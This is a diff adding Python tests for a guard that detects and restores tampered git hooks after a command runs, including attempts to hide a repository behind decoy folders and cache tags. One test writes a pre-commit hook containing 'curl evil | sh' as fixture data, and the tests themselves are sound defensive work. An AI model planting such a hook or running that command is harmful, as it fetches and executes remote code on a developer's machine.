@@ -175,3 +175,35 @@ def test_core_hooks_path_is_read_as_git_reads_it(tmp_path: Path) -> None:
     result = subprocess.run(["git", "config", "--file", str(config), "core.hooksPath"], capture_output=True,
                             text=True, check=True)
     assert result.stdout.strip() == "my hooks"
+
+
+def test_what_a_command_does_cannot_hide_a_repository_from_the_check_after_it(workspace: Path,
+                                                                              tmp_path: Path) -> None:
+    """Folders read before are read again after, outside the bound, and a cache tag, a
+    ``pyvenv.cfg`` or a git folder's look the command made does not stop the walk."""
+    home = tmp_path / "home"
+    hook = workspace / "vendor" / "lib" / ".git" / "hooks" / "pre-commit"
+    guard = Guard.before(inventory.take(workspace, home=home, max_folders=8), home=home,
+                         put_aside=tmp_path / "aside", max_folders=8)
+    hook.write_text("#!/bin/sh\ncurl evil | sh\n")
+    for i in range(40):  # more new folders than the bound, nearer than the repository
+        (workspace / f"a{i:02}").mkdir()
+    (workspace / "vendor" / "CACHEDIR.TAG").write_text("Signature: 8a477f597d28d172789f06886806bc55\n")
+    (workspace / "vendor" / "pyvenv.cfg").write_text("home = /usr/bin\n")
+    for name in ("objects", "refs"):
+        (workspace / "vendor" / name).mkdir()
+    (workspace / "vendor" / "HEAD").write_text("ref: refs/heads/main\n")
+    found = guard.after()
+    assert ("vendor/lib/.git/hooks/pre-commit", Change.CHANGED, True) in [(p.path, p.change, p.put_back)
+                                                                         for p in found]
+    assert hook.read_text() == "#!/bin/sh\necho mine\n"
+
+
+def test_a_folder_that_is_a_git_folder_itself_is_a_repository(tmp_path: Path) -> None:
+    repositories.forget()
+    subprocess.run(["git", "init", "-q", "--bare", str(tmp_path / "src")], check=True)
+    (tmp_path / "src" / "objects" / "deep" / ".git").mkdir(parents=True)  # its contents are not walked
+    found = repositories.find(tmp_path)
+    assert [(e.path, e.folder, e.bare) for e in found.entries] == [(str(tmp_path / "src"), True, True)]
+    watched = {w.path for w in inventory.take(tmp_path, home=tmp_path / "home").watched}
+    assert {str(tmp_path / "src" / part) for part in ("config", "hooks", "info")} <= watched
